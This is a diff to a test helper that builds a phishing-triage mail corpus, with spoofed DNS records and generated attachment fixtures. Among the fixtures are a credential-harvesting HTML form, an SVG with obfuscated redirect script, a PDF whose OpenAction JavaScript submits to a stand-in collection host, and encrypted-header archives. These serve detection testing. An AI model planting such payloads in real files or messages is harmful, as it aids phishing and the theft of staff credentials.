@@ -21,6 +21,8 @@ import { dkimSign, sealMessage } from 'mailauth';
 import type { DnsResolver, StaffMember } from '../../src/awareness/index.js';
 
 export const FIXTURES = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../fixtures/mail/triage');
+/** A second corpus, written after the rules and never used to set them (docs/awareness.md, "Held-out check"). */
+export const HELDOUT = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../fixtures/mail/triage-heldout');
 export const CLINIC_DOMAINS = ['stmarys-clinic.org', 'medsupply.com', 'labcorp-diagnostics.com'];
 export const STAFF: StaffMember[] = [
   { name: 'Anna Keller', email: 'anna.keller@stmarys-clinic.org' },
@@ -62,6 +64,28 @@ const ZONE: Record<string, DomainDns> = {
   'invoices-docs.net': {},
   'parcel-tracking-update.com': { spf: 'v=spf1 ?all' },
   'cloudfiles-share.info': { spf: 'v=spf1 ip4:91.200.14.0/24 -all' },
+  // The held-out corpus's senders. Legitimate services sign with their own keys; some send through an ESP.
+  'careshop-direct.com': { spf: 'v=spf1 include:sendgrid.net ~all', dmarc: 'v=DMARC1; p=reject', selector: 's1' },
+  'sendgrid.net': { spf: 'v=spf1 ip4:167.89.0.0/17 ~all' },
+  'mcsv.net': { spf: 'v=spf1 ip4:198.2.128.0/18 ~all' },
+  'rotaplan-app.com': { spf: 'v=spf1 ip4:192.0.2.200 -all', dmarc: 'v=DMARC1; p=quarantine', selector: 'rp' },
+  'docusign.net': { spf: 'v=spf1 ip4:64.207.219.0/24 -all', dmarc: 'v=DMARC1; p=reject', selector: 'ds' },
+  'sharepointonline.com': { spf: 'v=spf1 ip4:40.107.0.0/16 -all', dmarc: 'v=DMARC1; p=reject', selector: 'sp' },
+  // Held-out phishing senders: throwaway, compromised-looking or look-alike domains, most with records of their own.
+  'med-supply.co.uk': { spf: 'v=spf1 ip4:45.83.70.0/24 -all', dmarc: 'v=DMARC1; p=none', selector: 'default' },
+  'kraemer-logistik.de': { spf: 'v=spf1 ip4:88.99.10.0/24 ~all' },
+  'remit-notice.com': { spf: 'v=spf1 ip4:91.200.20.0/24 -all' },
+  'secure-auth-notice.com': { spf: 'v=spf1 ip4:91.200.21.0/24 -all', selector: 'k' },
+  'hr-benefits-centre.com': { spf: 'v=spf1 ip4:91.200.22.0/24 -all' },
+  'sharepoint-notify.net': { spf: 'v=spf1 ip4:91.200.23.0/24 -all' },
+  'envelope-sign.com': { spf: 'v=spf1 ip4:91.200.24.0/24 -all', dmarc: 'v=DMARC1; p=none', selector: 'k' },
+  'alpen-bau.at': { spf: 'v=spf1 ip4:88.99.11.0/24 ~all', dmarc: 'v=DMARC1; p=none', selector: 'k' },
+  'events-calendar.org': { spf: 'v=spf1 ip4:91.200.25.0/24 -all' },
+  'labcorp-diagnostlcs.com': { spf: 'v=spf1 ip4:45.83.71.0/24 -all', dmarc: 'v=DMARC1; p=none', selector: 'default' },
+  'docs-archive.net': { spf: 'v=spf1 ip4:91.200.26.0/24 -all' },
+  'scanner-mail.com': { spf: 'v=spf1 ip4:91.200.27.0/24 ~all' },
+  'fax-delivery.net': { spf: 'v=spf1 ip4:91.200.28.0/24 -all' },
+  'parcel-hold.com': { spf: 'v=spf1 ip4:91.200.29.0/24 -all' },
 };
 
 export interface CorpusMessage {
@@ -155,6 +179,31 @@ const PDF = Buffer.from(
   '%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n',
 );
 
+/** A 7z archive's 32-byte start header pointing at `next`, the header block that follows the packed data. */
+function sevenZip(packed: Buffer, next: Buffer): Buffer {
+  const start = Buffer.alloc(32);
+  Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0x00, 0x04]).copy(start, 0);
+  start.writeBigUInt64LE(BigInt(packed.length), 12);
+  start.writeBigUInt64LE(BigInt(next.length), 20);
+  return Buffer.concat([start, packed, next]);
+}
+// A header encoded (compressed and encrypted) with the 7zAES coder (id 06 F1 07 01), as `7z a -p -mhe=on` writes it.
+const SEVEN_ZIP_AES_HEADER = Buffer.from([
+  0x17, 0x06, 0x00, 0x01, 0x09, 0x30, 0x00, 0x07, 0x0b, 0x01, 0x00, 0x02, 0x24, 0x06, 0xf1, 0x07, 0x01, 0x0a, 0x53, 0x07, 0x1c, 0x2e, 0x4f, 0x11, 0xa9, 0x3b,
+  0x02, 0x23, 0x03, 0x01, 0x01, 0x05, 0x5d, 0x00, 0x00, 0x10, 0x00, 0x0c, 0x30, 0x30, 0x00, 0x00,
+]);
+// A header encoded with LZMA only (id 03 01 01): an ordinary archive.
+const SEVEN_ZIP_PLAIN_HEADER = Buffer.from([
+  0x17, 0x06, 0x00, 0x01, 0x09, 0x30, 0x00, 0x07, 0x0b, 0x01, 0x00, 0x01, 0x23, 0x03, 0x01, 0x01, 0x05, 0x5d, 0x00, 0x00, 0x10, 0x00, 0x0c, 0x30, 0x00, 0x00,
+]);
+
+/** A RAR 5 archive whose headers are encrypted (`rar a -hp`): the signature, then an archive encryption header (type 4). */
+function rar5EncryptedHeaders(): Buffer {
+  const body = Buffer.concat([Buffer.from([0x04, 0x00, 0x00, 0x01, 0x0f]), Buffer.alloc(16, 0x5a), Buffer.alloc(12, 0x33)]);
+  const block = Buffer.concat([Buffer.alloc(4), Buffer.from([body.length]), body]);
+  return Buffer.concat([Buffer.from([0x52, 0x61, 0x72, 0x21, 0x1a, 0x07, 0x01, 0x00]), block, Buffer.alloc(64, 0x7e)]);
+}
+
 /** The generated files fixtures may attach. */
 const FILES: Record<string, () => Buffer> = {
   pdf: () => PDF,
@@ -183,6 +232,25 @@ const FILES: Record<string, () => Buffer> = {
       '<html><body><h3>Document preview</h3><form action="https://collect.docs-preview.top/p" method="post"><input name="email"><input type="password" name="pw"><button>View</button></form></body></html>',
     ),
   'html-plain': () => Buffer.from('<html><body><script>window.location="https://docs-preview.top/"+location.hash</script></body></html>'),
+  '7z-encrypted': () => sevenZip(Buffer.alloc(256, 0x41), SEVEN_ZIP_AES_HEADER),
+  '7z-plain': () => sevenZip(Buffer.alloc(256, 0x42), SEVEN_ZIP_PLAIN_HEADER),
+  'rar-encrypted': rar5EncryptedHeaders,
+  one: () => Buffer.concat([Buffer.from('e4525c7b8cd8a74daeb15378d02996d3', 'hex'), Buffer.alloc(512)]),
+  vhd: () => Buffer.concat([Buffer.alloc(512), Buffer.from('conectix'), Buffer.alloc(504)]),
+  png: () => Buffer.concat([Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), Buffer.alloc(64)]),
+  'svg-script': () =>
+    Buffer.from(
+      '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10"/><script type="text/javascript"><![CDATA[var t=atob("aHR0cHM6Ly9leGFtcGxlLmludmFsaWQv");window.location.href=t+document.documentElement.id;]]></script></svg>',
+    ),
+  'svg-plain': () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="120" height="40"><text x="4" y="24">St Mary\'s</text></svg>'),
+  'pdf-js': () =>
+    Buffer.from(
+      '%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n3 0 obj << /Type /Action /S /JavaScript /JS (this.submitForm\\(\\{cURL: "https://collect.example.invalid/x"\\}\\)) >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n',
+    ),
+  'pdf-link': () =>
+    Buffer.from(
+      '%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [4 0 R] /Count 1 >> endobj\n4 0 obj << /Type /Page /Parent 2 0 R /Annots [5 0 R] >> endobj\n5 0 obj << /Type /Annot /Subtype /Link /A << /S /URI /URI (https://www.medsupply.com/terms) >> >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n',
+    ),
   ics: () =>
     Buffer.from('BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nSUMMARY:Product training\r\nDTSTART:20261210T100000Z\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n'),
 };
@@ -244,7 +312,8 @@ async function throughList(message: string, list: string, author: string, keys: 
   return seal.toString() + signed;
 }
 
-export async function buildCorpus(): Promise<Corpus> {
+/** `dir`: the folder of fixtures and their expectations.json (the main corpus, or HELDOUT). */
+export async function buildCorpus(dir: string = FIXTURES): Promise<Corpus> {
   const records: Corpus['records'] = new Map();
   const privateKeys = new Map<string, string>();
   for (const [domain, dns] of Object.entries(ZONE)) {
@@ -258,13 +327,13 @@ export async function buildCorpus(): Promise<Corpus> {
       record(records, `${dns.selector}._domainkey.${domain}`, 'TXT', `v=DKIM1; k=rsa; p=${p}`);
     }
   }
-  const expectations = JSON.parse(fs.readFileSync(path.join(FIXTURES, 'expectations.json'), 'utf8')) as Record<string, Expectation>;
+  const expectations = JSON.parse(fs.readFileSync(path.join(dir, 'expectations.json'), 'utf8')) as Record<string, Expectation>;
   const messages: CorpusMessage[] = [];
   for (const file of fs
-    .readdirSync(FIXTURES)
+    .readdirSync(dir)
     .filter((f) => f.endsWith('.eml'))
     .sort()) {
-    let text = fs.readFileSync(path.join(FIXTURES, file), 'utf8').replace(/\r?\n/g, '\r\n');
+    let text = fs.readFileSync(path.join(dir, file), 'utf8').replace(/\r?\n/g, '\r\n');
     text = text.replace(/\{\{file:([a-z0-9-]+)\}\}/g, (_, kind: string) => fileBase64(kind));
     const d = directives(text);
     let message = d.message;
